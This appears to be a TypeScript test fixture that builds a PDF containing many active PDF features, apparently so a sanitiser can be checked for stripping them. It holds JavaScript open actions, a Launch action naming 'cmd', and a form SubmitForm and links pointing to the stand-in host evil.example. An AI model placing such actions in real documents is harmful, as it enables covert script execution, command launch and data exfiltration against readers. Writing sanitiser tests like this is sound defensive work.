import { pdfFromObjects, pdfStream } from './pdf_objects.ts'

/** Texts that occur only in parts that must be removed. */
export const ACTIVE_TEXTS = ['evil.example', 'beacon()', 'secret author', 'xmp:CreatorTool', 'carried file']

const JS = '<</S/JavaScript/JS(beacon\\(\\))>>'
const URI = '<</S/URI/URI(http://evil.example/u)>>'
const FILE = '<</Type/Filespec/F(carried file)/EF<</F 30 0 R>>>>'
const text = (words: string) => `BT /F1 12 Tf 20 100 Td (${words}) Tj ET`
const annotation = (subtype: string, more: string) =>
  `<</Type/Annot/Subtype/${subtype}/Rect[0 0 50 50]${more}>>`

/** Every active or identifying object, by its number. */
const OBJECTS: Record<number, string | Buffer> = {
  1: `<</Type/Catalog/Pages 2 0 R/OpenAction${JS}/AA<</WC${JS}/WP${JS}>>/AcroForm<</XFA 31 0 R/Fields[20 0 R]/CO[20 0 R]>>
    /Names<</JavaScript<</Names[(a)${JS}]>>/EmbeddedFiles<</Names[(f)${FILE}]>>/URLS<<>>>>/AF[${FILE}]/Metadata 29 0 R
    /OCProperties<</OCGs[32 0 R]/D<</AS[<</Event/View/OCGs[32 0 R]/Category[/View]>>]>>>>/StructTreeRoot 33 0 R/PieceInfo<<>>
    /Perms<<>>/DSS<<>>/Legal<<>>/Collection<<>>/Requirements[]/SpiderInfo<<>>/Outlines<</First 34 0 R>>/Dests<<>>
    /DPartRoot<</DPart<<>>>>/URI<</Base(http://evil.example/)>>>>`,
  2: '<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 300 300]/Resources 5 0 R>>',
  3: `<</Type/Page/Parent 2 0 R/Contents[4 0 R]/AA<</O${JS}/C${JS}>>/Metadata 29 0 R/PieceInfo<</X<</LastModified(D:2020)>>>>
    /LastModified(D:2020)/Thumb 9 0 R/StructParents 0/Tabs/S/B[]/AF[${FILE}]/PresSteps<</NA${JS}>>/Trans<</S/Fly>>/Dur 1
    /Annots[${Array.from({ length: 12 }, (_, i) => `${i + 10} 0 R`).join(' ')}]>>`,
  4: pdfStream(
    '/F(http://evil.example/c)/FFilter/FlateDecode/Metadata 29 0 R',
    `${text('drawn by the page')} /X1 Do /X2 Do /X3 Do`,
  ),
  5: `<</Font<</F1 6 0 R>>/XObject<</X1 7 0 R/X2 8 0 R/X3 9 0 R>>/Properties<</P1 32 0 R/P2<</Type/OCMD/OCGs 32 0 R>>>>>>`,
  6: '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/PieceInfo<<>>/Metadata 29 0 R>>',
  7: pdfStream(
    `/Type/XObject/Subtype/Form/BBox[0 0 300 300]/Resources<</Font<</F1 6 0 R>>/XObject<</Self 7 0 R>>>>/Metadata 29 0 R/PieceInfo<<>>
     /OPI<<>>/OC 32 0 R/StructParent 1/LastModified(D:2020)/Ref<</F(http://evil.example/r)/Page 0>>/AF[${FILE}]/PS 8 0 R`,
    text('drawn in a form').replace('100', '150'),
  ),
  8: pdfStream('/Type/XObject/Subtype/PS', '(beacon()) run'),
  9: pdfStream(
    `/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/Metadata 29 0 R/OPI<<>>
     /Alternates[<</Image 9 0 R/DefaultForPrinting true>>]/OC 32 0 R/ID(x)/StructParent 1`,
    'x',
  ),
  10: annotation('Link', `/A${URI}`),
  11: annotation(
    'Link',
    '/A<</S/Launch/F(evil.example)/Win<</F(cmd)>>>>/PA<</S/GoToR/F(evil.example)/D[0/Fit]>>',
  ),
  12: annotation('Link', '/A<</S/GoToE/F(evil.example)>>/AA<</E<</S/ImportData/F(evil.example)>>>>'),
  13: annotation('FileAttachment', `/FS${FILE}/AP<</N 22 0 R>>`),
  14: annotation('Sound', '/Sound 30 0 R/A<</S/Sound/Sound 30 0 R>>'),
  15: annotation('Movie', '/Movie<</F(evil.example)>>/A<</S/Movie>>'),
  16: annotation('Screen', `/A<</S/Rendition/OP 0/JS(beacon\\(\\))/R<<>>>>/AA<</PV${JS}/PO${JS}>>`),
  17: annotation('RichMedia', '/RichMediaContent<</Assets<</Names[]>>>>'),
  18: annotation('3D', '/3DD 35 0 R/3DA<</A/PO>>/A<</S/GoTo3DView>>'),
  19: annotation('Text', '/F 2/Contents(secret author)/AP<</N 23 0 R>>'),
  20: annotation(
    'Widget',
    `/FT/Tx/T(f)/V(x)/A<</S/SubmitForm/F(http://evil.example/s)>>/AA<</K${JS}/F${JS}>>/AP<</N 21 0 R>>`,
  ),
  21: pdfStream(
    `/Subtype/Form/BBox[0 0 200 200]/Metadata 29 0 R/Resources<</Font<</F1 6 0 R>>>>`,
    text('typed into a field'),
  ),
  22: pdfStream('/Subtype/Form/BBox[0 0 9 9]', '0 0 9 9 re f'),
  23: pdfStream('/Subtype/Form/BBox[0 0 200 200]/Resources<</Font<</F1 6 0 R>>>>', text('hidden note')),
  24: '<</Producer(secret author)/Author(secret author)>>',
  25: `[${['ResetForm', 'Named', 'GoTo', 'Thread', 'Hide', 'SetOCGState'].map((s) => `<</S/${s}>>`).join('')}]`,
  29: pdfStream('/Type/Metadata/Subtype/XML', '<x:xmpmeta xmp:CreatorTool="secret author"/>'),
  30: pdfStream('/Type/EmbeddedFile', 'carried file'),
  31: pdfStream('', '<xdp><event>beacon()</event></xdp>'),
  32: `<</Type/OCG/Name(l)/Usage<</View<</ViewState/ON>>>>>>`,
  33: `<</Type/StructTreeRoot/K<</S/Document/AF[${FILE}]>>>>`,
  34: `<</Title(o)/A${URI}>>`,
  35: pdfStream('/Type/3D/Subtype/U3D/OnInstantiate 36 0 R'),
  36: pdfStream('', 'beacon()'),
}

/** A PDF of one page with every active and identifying part. */
export function activePdf(): Buffer {
  const most = Math.max(...Object.keys(OBJECTS).map(Number))
  const objects = Array.from({ length: most }, (_, i) => OBJECTS[i + 1] ?? 'null')
  return pdfFromObjects(...objects)
}
